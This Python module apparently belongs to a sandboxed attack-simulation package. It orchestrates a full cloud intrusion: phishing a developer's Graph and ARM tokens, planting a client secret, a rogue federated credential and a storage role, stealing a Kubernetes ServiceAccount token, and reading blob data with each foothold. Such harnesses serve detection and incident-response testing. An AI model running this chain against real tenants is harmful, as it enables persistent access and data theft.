"""Scenario: a phished developer, four ways in, and data that leaves.

Technique   the other modules of this package, in the order in which an intruder would use them
Needs       a phished owner of the application who may also grant roles at its resource group; code in one pod
Leaves      a secret, a federated credential, a role assignment, and three live access tokens in the attacker's hands
Source      https://learn.microsoft.com/security/operations/incident-response-playbook-compromised-malicious-app
"""

from collections.abc import Callable
from dataclasses import dataclass, field
from functools import partial

from sandbox.attacks import application_fic_backdoor, application_secret_backdoor, stolen_tokens
from sandbox.attacks.application_fic_backdoor import RogueTrust
from sandbox.attacks.application_secret_backdoor import PlantedSecret
from sandbox.attacks.attacker import Attacker, AttackFailedError
from sandbox.attacks.role_assignment_backdoor import PlantedGrant
from sandbox.attacks.role_assignment_backdoor import plant as plant_grant

GRAPH = "https://graph.microsoft.com"
ARM = "https://management.azure.com"


@dataclass(frozen=True, slots=True)
class Target:
    """Whom the attack is about; all of it can be read by any member of the tenant."""

    victim: str  # the user who is phished
    app_id: str
    application_object_id: str
    object_id: str  # of the service principal
    scope: str  # where the role is planted
    blob_url: str
    cluster: str
    namespace: str
    service_account: str


@dataclass
class Loot:
    """What the attacker holds afterwards. In memory only, and in no printed form."""

    secret: PlantedSecret
    trust: RogueTrust
    grant: PlantedGrant
    account_tokens: dict[str, str] = field(repr=False)  # cluster -> stolen ServiceAccount token
    access_tokens: dict[str, str] = field(repr=False)  # how it was bought -> token for storage
    graph_token: str = field(repr=False)  # of the phished developer

    def secrets(self) -> dict[str, str]:
        """Every value that may never turn up in a log or a report, by a name that may."""
        named = {
            "planted client secret": self.secret.value,
            "phished Graph token": self.graph_token,
        }
        named |= {
            f"ServiceAccount token of {cluster}": token
            for cluster, token in self.account_tokens.items()
        }
        return named | {
            f"access token by {how}": token for how, token in self.access_tokens.items()
        }


async def compromise(
    attacker: Attacker, target: Target, tell: Callable[[str, str], None] = lambda *_: None
) -> Loot:
    """Carry out the whole attack; `tell` hears each move and what came of it."""
    graph_token = await attacker.phish(target.victim, GRAPH)
    arm_token = await attacker.phish(target.victim, ARM)
    tell(f"{target.victim} is phished", "tokens for Graph and ARM")
    application = target.application_object_id
    secret = await application_secret_backdoor.plant(attacker, graph_token, application)
    tell("client secret planted", f"key id {secret.key_id}")
    trust = await application_fic_backdoor.plant(attacker, graph_token, application)
    tell("rogue federated credential planted", trust.issuer)
    grant = await plant_grant(attacker, arm_token, target.scope, target.object_id)
    tell("role planted", f"Storage Blob Data Contributor at {target.scope.rsplit('/', 1)[-1]}")
    stolen = await attacker.read_mounted_token(
        target.cluster, target.namespace, target.service_account
    )
    if stolen is None:
        raise AttackFailedError(f"no pod of {target.service_account} runs in {target.cluster}")
    tell("ServiceAccount token stolen from a pod", target.cluster)
    loot = Loot(secret, trust, grant, {target.cluster: stolen}, {}, graph_token)
    await _cash_in(attacker, target, loot, tell)
    return loot


async def _cash_in(
    attacker: Attacker, target: Target, loot: Loot, tell: Callable[[str, str], None]
) -> None:
    """Turn each way in into an access token, and read the blob with it."""
    forged = await attacker.forge_assertion(loot.trust.issuer, loot.trust.subject)
    exchange = partial(attacker.exchange_assertion, target.app_id)
    ways = {
        "planted secret": partial(attacker.exchange_secret, target.app_id, loot.secret.value),
        "rogue trust": partial(exchange, forged),
        "stolen ServiceAccount token": partial(exchange, loot.account_tokens[target.cluster]),
    }
    for how, ask in ways.items():
        token = await stolen_tokens.buy_token(how, ask)
        await stolen_tokens.read_data(attacker, how, target.blob_url, token)
        loot.access_tokens[how] = token
        tell(f"data read by {how}", f"HTTP 200 {target.blob_url.rsplit('/', 1)[-1]}")
